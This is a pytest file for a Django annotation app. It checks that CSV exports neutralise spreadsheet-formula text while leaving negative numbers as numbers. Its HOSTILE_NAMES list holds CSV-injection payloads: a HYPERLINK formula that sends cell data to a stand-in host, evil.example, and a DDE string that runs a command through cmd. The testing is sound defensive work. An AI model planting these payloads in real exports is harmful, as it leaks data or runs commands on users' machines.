"""CSV downloads: text that a spreadsheet would run as a formula is shown, never run."""

import csv
import io

import pytest

from annotator.profiles.presentation import csv_cell

from .conftest import logged_in, make_annotation, make_article, make_source

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def download(user):
    response = logged_in(user).get("/sources/table.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("user", ["alice", "carol"])
def test_source_names_that_start_a_formula_are_written_as_text(request, user):
    for name in HOSTILE_NAMES:
        make_source(name)
    make_source("Plain = Gazette")
    rows = download(request.getfixturevalue(user))
    names = {row["source"] for row in rows}
    assert names == {"'" + name for name in HOSTILE_NAMES} | {"Plain = Gazette"}


def test_negative_figures_stay_numbers(alice):
    source = make_source("-The Minus Times")
    article = make_article(body="Officials claimed the dam will open in May.", source=source)
    make_annotation(article, alice, "attribution", "Officials claimed", cue_stance="distancing")
    [row] = [row for row in download(alice) if row["source_id"] == str(source.pk)]
    assert row["source"] == "'-The Minus Times"
    assert row["cue_balance"] == "-1.0"
    assert float(row["cue_balance"]) == -1.0


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("Plain", "Plain"),
        ("", ""),
        (None, ""),
        (-0.25, -0.25),
        (-3, -3),
        (True, True),
    ],
)
def test_csv_cell_neutralises_text_only(value, cell):
    assert csv_cell(value) == cell
